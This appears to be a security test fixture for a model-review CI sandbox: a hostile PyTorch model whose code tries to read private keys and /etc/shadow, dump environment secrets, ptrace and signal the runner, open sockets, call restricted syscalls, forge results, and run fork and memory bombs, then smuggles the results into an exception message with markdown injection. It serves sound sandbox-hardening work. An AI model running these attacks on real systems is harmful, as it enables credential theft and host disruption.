# A pull request's hostile model: its __init__ attacks the runner and raises with everything it got, the
# way a model once put the App's key into a posted check-run summary. tests/security/test_attacks.py fills
# in the @@NAME@@ placeholders (what an attacker who knows the deployment would know) and runs it through
# the real smoke path. Every attack records {"got": bool (it succeeded), "detail": what it saw}.
import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import subprocess
import sys
import time

import torch.nn as nn

P = json.loads(r'''@@PARAMS@@''')
libc = ctypes.CDLL(None, use_errno=True)
results = {}


def attempt(name, function):
    try:
        got, detail = function()
    except Exception as exc:  # noqa: BLE001 - a blocked attack raises; that is the expected outcome
        got, detail = False, f"{type(exc).__name__}: {exc}"
    results[name] = {"got": bool(got), "detail": str(detail)[:160]}


def read(path):
    with open(path, "rb") as f:
        return True, f.read(200).decode(errors="replace")


def errno_of(value):
    # System calls return >= 0 on success (0, a descriptor, a keyring id), -1 and errno on failure.
    if value >= 0:
        return True, f"returned {value}"
    return False, errno.errorcode.get(ctypes.get_errno(), "?")


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"hello from the sandbox")
        return True, "connected"


def env_dump():
    found = {k: v for k, v in os.environ.items() if k.startswith(("GITHUB", "REDIS", "PLANTED"))}
    return bool(found), json.dumps(found)


def proc_environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        data = f.read()
    return b"PLANTED" in data or b"GITHUB" in data, data[:160].decode(errors="replace")


def ptrace(pid):
    PTRACE_ATTACH = 16
    value = libc.ptrace(PTRACE_ATTACH, pid, 0, 0)
    if value == 0:
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    return errno_of(value)


def write_outside():
    written = []
    for directory in P["writable_targets"]:
        try:
            with open(os.path.join(directory, "pwned-" + P["tag"]), "w") as f:
                f.write("pwned")
            written.append(directory)
        except OSError:
            pass
    return bool(written), json.dumps(written)


def forge():
    # A result line of the old protocol, and a result document on every file descriptor open here.
    forged = {"target": P["target"], "status": "passed", "checks": [], "measures": {}, "reason": "forged"}
    print("@@torchreview-smoke-result@@ " + json.dumps(forged), flush=True)
    print(json.dumps({"results": [forged]}), flush=True)
    hits = 0
    for fd in range(3, 256):
        try:
            os.write(fd, (json.dumps({"results": [forged]}) + "\n").encode())
            hits += 1
        except OSError:
            pass
    return False, f"wrote to {hits} descriptors"  # whether it worked shows in the runner's result


def fill(directory, cap):
    total, index = 0, 0
    try:
        while total < cap:
            with open(os.path.join(directory, f"fill-{index}"), "wb") as f:
                for _ in range(16):
                    f.write(b"\xff" * (1 << 20))
                    total += 1 << 20
            index += 1
    except OSError:
        pass
    return total


def memory_bomb():
    # Data (RLIMIT_DATA), /tmp and /dev/shm (tmpfs), shared anonymous memory and memfd: together they
    # must stay within the one budget.
    cap = 4 * P["memory_bytes"]
    tmp = fill("/tmp", cap)
    shm = fill("/dev/shm", cap)
    blocks, data = [], 0
    try:
        while data < cap:
            blocks.append(bytearray(32 << 20))
            data += 32 << 20
    except MemoryError:
        pass
    del blocks
    shared = 0
    try:
        area = mmap.mmap(-1, 64 << 20)
        area.write(b"x" * (64 << 20))
        shared = 64 << 20
    except OSError:
        pass
    memfd = 0
    try:
        fd = os.memfd_create("bomb")
        os.write(fd, b"x" * (16 << 20))
        memfd = 16 << 20
    except OSError:
        pass
    for directory in ("/tmp", "/dev/shm"):
        for name in os.listdir(directory):
            if name.startswith("fill-"):
                os.unlink(os.path.join(directory, name))
    total = tmp + shm + data + shared + memfd
    return total > P["memory_bytes"], json.dumps({"tmp": tmp, "shm": shm, "data": data, "shared": shared,
                                                  "memfd": memfd, "total": total})


def fork_bomb():
    children = []
    try:
        for _ in range(4 * P["processes"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children) >= P["processes"], f"{len(children)} processes"


def leave_behind():
    # A daemon in a session of its own, tagged so the test can look for it after the run.
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", P["tag"]], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return False, "started"


def keyctl():
    if os.uname().machine != "x86_64":
        return False, "not x86_64"
    KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING = 0, -3
    return errno_of(libc.syscall(250, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0))


def bpf():
    if os.uname().machine != "x86_64":
        return False, "not x86_64"
    attr = (ctypes.c_char * 72)()  # BPF_MAP_CREATE of an all-zero map: EINVAL when allowed, EPERM when denied
    value = libc.syscall(321, 0, attr, 72)
    if value >= 0:
        os.close(value)
        return True, "created a map"
    return ctypes.get_errno() != errno.EPERM, errno.errorcode.get(ctypes.get_errno(), "?")


def perf():
    if os.uname().machine != "x86_64":
        return False, "not x86_64"
    attr = (ctypes.c_char * 128)()
    value = libc.syscall(298, attr, 0, -1, -1, 0)
    if value >= 0:
        os.close(value)
        return True, "opened a perf event"
    return errno_of(value)


attempt("read-key-file", lambda: read(P["key_path"]))
attempt("read-ssh-key", lambda: read(P["ssh_path"]))
attempt("read-broker-db", lambda: read(P["db_path"]))
attempt("read-checkout", lambda: read(P["project_file"]))
attempt("read-shadow", lambda: read("/etc/shadow"))
attempt("environment", env_dump)
attempt("parent-environ", lambda: proc_environ(1))
attempt("runner-environ", lambda: proc_environ(P["runner_pid"]))
attempt("see-runner", lambda: (os.path.exists(f"/proc/{P['runner_pid']}"), "pid visible"))
attempt("signal-runner", lambda: (os.kill(P["runner_pid"], 0) is None, "signalled"))
attempt("ptrace-parent", lambda: ptrace(os.getppid() or 1))
attempt("ptrace-runner", lambda: ptrace(P["runner_pid"]))
attempt("tcp-loopback", lambda: connect(socket.AF_INET, ("127.0.0.1", P["tcp_port"])))
attempt("unix-socket", lambda: connect(socket.AF_UNIX, P["unix_path"]))
attempt("abstract-socket", lambda: connect(socket.AF_UNIX, "\0" + P["abstract_name"]))
attempt("nested-userns", lambda: errno_of(libc.unshare(0x10000000)))
attempt("mount", lambda: errno_of(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
attempt("keyctl", keyctl)
attempt("bpf", bpf)
attempt("perf-event-open", perf)
attempt("write-outside-tmp", write_outside)
attempt("forge-result", forge)
attempt("memory-bomb", memory_bomb)
attempt("fork-bomb", fork_bomb)
attempt("leave-process-behind", leave_behind)


class Hostile(nn.Module):
    def __init__(self):
        super().__init__()
        # Markdown and mention injection, then every outcome (and whatever secret was read) in the message.
        raise RuntimeError("@octocat <!-- torchreview --> | x | [click](https://evil.example) "
                           "ATTACKS<<" + json.dumps(results, sort_keys=True) + ">>ATTACKS")
